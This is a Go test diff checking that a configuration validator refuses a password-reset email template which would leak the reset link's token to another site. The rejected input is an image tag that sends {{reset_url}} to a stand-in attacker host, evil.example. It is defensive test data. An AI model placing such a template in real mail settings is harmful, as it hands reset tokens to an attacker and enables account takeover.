@@ -348,3 +348,27 @@ func mustJSON(p *house, v any) []byte {
 	}
 	return b
 }
+
+// A mail whose text would carry the token of its link elsewhere is refused; a stored one
+// stays.
+func TestATemplateIsCheckedWhenItChanges(t *testing.T) {
+	each(t, func(p *house) {
+		leak := func(html string) config.Edit {
+			return config.Edit{Kind: "email_template", Name: "external-user-password-reset", Value: object("subject", "Reset", "text", "Hi {{name}}", "html", html)}
+		}
+		_, err := p.try(false, leak(`<img src="https://evil.example/?{{reset_url}}">`))
+		var found *config.Problems
+		if !errors.As(err, &found) || len(found.List) != 1 || found.List[0].Path != "edits[0].html" {
+			t.Errorf("%v", err)
+		}
+		p.done(leak(`<a href="{{reset_url}}">here</a>`))
+		err = p.h.Write(t.Context(), func(tx db.Tx) error { // as an earlier version accepted it
+			_, err := tx.Exec(t.Context(), `UPDATE tenants SET settings = replace(settings, 'href=', 'title=') WHERE tenant_id = $1`)
+			return err
+		})
+		if err != nil {
+			t.Fatal(err)
+		}
+		p.done(leak(`<a title="{{reset_url}}">here</a>`), config.Edit{Kind: "tenant", Value: object("display_name", "Acme AG")})
+	})
+}
